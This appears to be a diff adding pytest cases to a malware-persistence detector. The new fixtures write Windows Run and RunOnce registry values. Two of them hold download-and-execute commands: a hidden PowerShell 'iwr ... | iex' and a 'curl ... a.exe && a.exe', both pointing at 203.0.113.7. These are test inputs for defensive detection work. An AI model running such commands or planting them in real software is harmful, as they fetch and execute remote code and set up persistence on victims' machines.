@@ -234,3 +234,49 @@ def test_downloads_into_startup_locations() -> None:
     # the same body written somewhere else
     f = features(DOWNLOADED_JAR.replace("'Start Menu', 'Programs',", "'tool',").replace("'Startup'", "'lib'"))
     assert persisted(f) == [] and payload(f) == []
+
+
+RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
+
+
+@pytest.mark.parametrize(
+    ("code", "write_line", "payload_line"),
+    [
+        (  # an app that starts itself at log-on: a start-up write, not a payload
+            "import winreg, sys\ndef autostart():\n"
+            f"    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}', 0, winreg.KEY_SET_VALUE)\n"
+            "    winreg.SetValueEx(k, 'app', 0, winreg.REG_SZ, sys.executable + ' -m app')\n",
+            4,
+            None,
+        ),
+        (  # a download cradle stored under RunOnce, the key path built from parts
+            "import winreg\nBASE = r'Software\\Microsoft\\Windows\\CurrentVersion'\n"
+            "with winreg.CreateKey(winreg.HKEY_CURRENT_USER, BASE + '\\\\RunOnce') as k:\n"
+            "    winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ,\n"
+            "                      'powershell -w hidden -c \"iwr http://203.0.113.7/a.ps1 | iex\"')\n",
+            4,
+            4,
+        ),
+        (  # SetValue naming the key itself
+            f"import winreg\nwinreg.SetValue(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}', winreg.REG_SZ,\n"
+            "                'cmd /c curl -s http://203.0.113.7/a.exe -o a.exe && a.exe')\n",
+            2,
+            2,
+        ),
+    ],
+)
+def test_values_set_under_run_keys(code: str, write_line: int, payload_line: int | None) -> None:
+    f = features(code)
+    assert persisted(f) == [write_line]
+    assert payload(f) == ([] if payload_line is None else [payload_line])
+
+
+def test_other_registry_values_are_not_startup_writes() -> None:
+    code = (
+        "import winreg\ndef remember(v):\n"
+        "    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Acme\\Runner')\n"
+        "    winreg.SetValueEx(k, 'last', 0, winreg.REG_SZ, v)\n"
+        f"def check():\n    return winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}')\n"
+        "def other(k):\n    winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'y')\n"
+    )
+    assert persisted(features(code)) == []
